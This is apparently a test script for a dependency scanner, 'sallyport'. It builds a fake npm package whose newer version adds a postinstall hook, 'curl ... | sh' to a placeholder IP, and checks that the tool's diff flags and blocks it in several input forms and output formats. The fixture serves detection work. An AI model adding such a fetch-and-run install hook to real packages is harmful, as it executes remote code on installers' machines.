#!/usr/bin/env python3
"""`sallyport diff A B` for everything that A and B may be, in every format: two versions, two tarballs, two folders, two lockfiles, two git
revisions of one lockfile. The second of each brings the same install script in; the registry is on loopback.

usage: forms.py SALLYPORT"""

import base64
import hashlib
import http.server
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../incident"))
from repository import Repository

SALLYPORT = os.path.abspath(sys.argv[1])
if shutil.which("git") is None:
    print("skipped: git is not there")
    sys.exit(77)

DAYS = {"1.0.0": "2026-01-01T00:00:00.000Z", "1.0.1": "2026-02-01T00:00:00.000Z"}
FILES = {}  # by version: name to text
for version, scripts in (("1.0.0", {}), ("1.0.1", {"postinstall": "curl -s http://192.0.2.7/x | sh"})):
    manifest = {"name": "tool", "version": version, "main": "index.js", **({"scripts": scripts} if scripts else {})}
    FILES[version] = {"package.json": json.dumps(manifest), "index.js": "module.exports = 1\n"}


def tarball(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.PAX_FORMAT) as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo("package/" + name)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return out.getvalue()


TARBALLS = {version: tarball(files) for version, files in FILES.items()}
INTEGRITY = {version: "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode() for version, data in TARBALLS.items()}


class Registry(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        place = f"http://127.0.0.1:{self.server.server_port}"
        body = None
        if self.path == "/tool":
            body = json.dumps({
                "name": "tool", "time": {"created": DAYS["1.0.0"], **DAYS}, "dist-tags": {"latest": "1.0.1"},
                "versions": {version: {**json.loads(files["package.json"]),
                                       "dist": {"tarball": f"{place}/tool/-/tool-{version}.tgz", "integrity": INTEGRITY[version]}}
                             for version, files in FILES.items()}}).encode()
        for version, data in TARBALLS.items():
            if self.path == f"/tool/-/tool-{version}.tgz":
                body = data
        self.send_response(200 if body else 404)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")

    def log_message(self, *words):
        pass


def lockfile(place, version):
    return json.dumps({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": {"name": "app", "version": "1.0.0", "dependencies": {"tool": "^1.0.0"}},
        "node_modules/tool": {"version": version, "resolved": f"{place}/tool/-/tool-{version}.tgz", "integrity": INTEGRITY[version]}}}, indent=2)


def expect(what, holds, text):
    if not holds:
        raise SystemExit(f"{what}\n{text}")


with tempfile.TemporaryDirectory() as work, http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry) as server:
    threading.Thread(target=server.serve_forever, daemon=True).start()
    place = f"http://127.0.0.1:{server.server_port}"
    with open(os.path.join(work, ".npmrc"), "w") as npmrc:
        npmrc.write(f"registry={place}/\n")
    project = os.path.join(work, "project")
    repository = Repository(project)
    for at, version in enumerate(FILES):
        manifest = json.dumps({"name": "app", "version": "1.0.0", "dependencies": {"tool": "^1.0.0"}})
        repository.commit(1_780_000_000 + at, {"package-lock.json": lockfile(place, version), "package.json": manifest})
        folder = os.path.join(project, f"tool-{version}")
        os.makedirs(folder)
        for name, text in FILES[version].items():
            with open(os.path.join(folder, name), "w") as out:
                out.write(text)
        with open(folder + ".tgz", "wb") as out:
            out.write(TARBALLS[version])
        with open(os.path.join(folder, "package-lock.json"), "w") as out:
            out.write(lockfile(place, version))
    repository.finish()

    forms = {
        "versions": ("tool@1.0.0", "tool@1.0.1"),
        "tarballs": ("tool-1.0.0.tgz", "tool-1.0.1.tgz"),
        "folders": ("tool-1.0.0", "tool-1.0.1"),
        "lockfiles": ("tool-1.0.0/package-lock.json", "tool-1.0.1/package-lock.json"),
        "revisions": ("main~1:package-lock.json", "main:package-lock.json"),
    }
    for form, (before, now) in forms.items():
        for style in ("text", "json", "markdown", "html"):
            run = subprocess.run([SALLYPORT, "diff", before, now, "--format", style, "--color", "never"], cwd=project, capture_output=True, text=True,
                                 env={"PATH": os.environ["PATH"], "HOME": work, "XDG_CACHE_HOME": os.path.join(work, form)})
            what, out = f"{form} as {style}", run.stdout
            expect(f"{what}: status {run.returncode}, not 1", run.returncode == 1, run.stderr + out)
            expect(f"{what}: the rule is not named", "install-download-run" in out, out)
            if style == "text":
                expect(f"{what}: no verdict", "\nblock  tool@1.0.1" in out and "verdict: block" in out, out)
            if style == "markdown":
                expect(f"{what}: no heading, or no bold verdict", out.startswith("#") and "block" in out and "<script" not in out, out)
            if style == "html":
                expect(f"{what}: no page", out.startswith("<!doctype html>") and out.rstrip().endswith("</html>"), out)
            if style == "json":
                answer = json.loads(out)
                expect(f"{what}: not what was asked", (answer["before"], answer["now"]) == (before, now), out)
                if form in ("lockfiles", "revisions"):
                    expect(f"{what}: the change of the package", answer["packages"] == [{"name": "tool", "how": "changed", "before": "1.0.0", "now": "1.0.1"}], out)
                else:
                    expect(f"{what}: nothing gained", any(each["fact"] == "script.download-run" for each in answer["gained"]), out)
        # The other way round nothing is new.
        back = subprocess.run([SALLYPORT, "diff", now, before], cwd=project, capture_output=True, text=True,
                              env={"PATH": os.environ["PATH"], "HOME": work, "XDG_CACHE_HOME": os.path.join(work, form)})
        expect(f"{form} backwards: status {back.returncode}, not 0", back.returncode == 0, back.stderr + back.stdout)
print(f"{len(forms)} forms in 4 formats each")
